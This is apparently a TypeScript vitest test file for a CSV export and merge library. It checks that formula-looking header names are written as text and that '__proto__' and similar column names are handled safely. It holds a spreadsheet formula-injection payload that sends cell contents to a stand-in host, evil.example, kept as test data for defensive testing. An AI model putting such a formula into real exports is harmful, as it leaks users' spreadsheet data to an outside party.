import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, type CsvRow } from '@/lib/core/csv/columns';
import { toCsv } from '@/lib/core/csv/export';
import { readTable } from '@/lib/core/csv/table';
import { unitedExtra } from '@/lib/core/csv/merge-rules';

// Finding 3 of the review (issue 13): header names from a teammate's CSV came back out as live formulas,
// and columns named after Object's prototype exported "[object Object]" or a function's source.
const EVIL = '=HYPERLINK("https://evil.example/?"&A2&B2,"click")';

function row(): CsvRow {
  const base = Object.fromEntries(CSV_COLUMNS.map((c) => [c, null])) as CsvRow;
  return { ...base, platform: 'instagram', handle: 'someone' };
}

const cellsOf = (csv: string) => Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;

describe('CSV header names are guarded like cells', () => {
  it('writes a formula-looking column name as text, and reads it back as the name it was', () => {
    const csv = toCsv([row()], { columns: [{ name: EVIL, after: 'notes' }], cells: [{ [EVIL]: 'x' }] });
    const [header] = cellsOf(csv);
    expect(header).toContain(`'${EVIL}`);
    expect(header?.some((h) => /^[=+\-@]/.test(h))).toBe(false);
    const back = readTable(csv.slice(1));
    expect(back.ok && back.value.extraColumns.map((c) => c.name)).toEqual([EVIL]);
  });

  it('reads only the row\'s own cells: "constructor", "__proto__" and "toString" columns export what they hold', () => {
    const own = Object.fromEntries([['__proto__', 'proto cell']]) as Record<string, string>;
    const csv = toCsv([row()], { columns: ['constructor', '__proto__', 'toString'].map((name) => ({ name, after: null })), cells: [own] });
    const [header, data] = cellsOf(csv);
    const cell = (name: string) => data?.[header?.indexOf(name) ?? -1];
    expect([cell('constructor'), cell('__proto__'), cell('toString')]).toEqual(['', 'proto cell', '']);
    expect(csv).not.toMatch(/\[object Object\]|function|native code/);
  });

  it('keeps an imported column named "__proto__" as a column when merging', () => {
    const theirs = Object.fromEntries([['__proto__', 'their cell'], ['notes2', 'n']]) as Record<string, string>;
    const merged = unitedExtra({ mine: 'm' }, theirs);
    expect(Object.hasOwn(merged, '__proto__')).toBe(true);
    expect(Object.entries(merged)).toEqual([['mine', 'm'], ['__proto__', 'their cell'], ['notes2', 'n']]);
    expect(Object.getPrototypeOf(merged)).toBe(Object.prototype);
  });
});
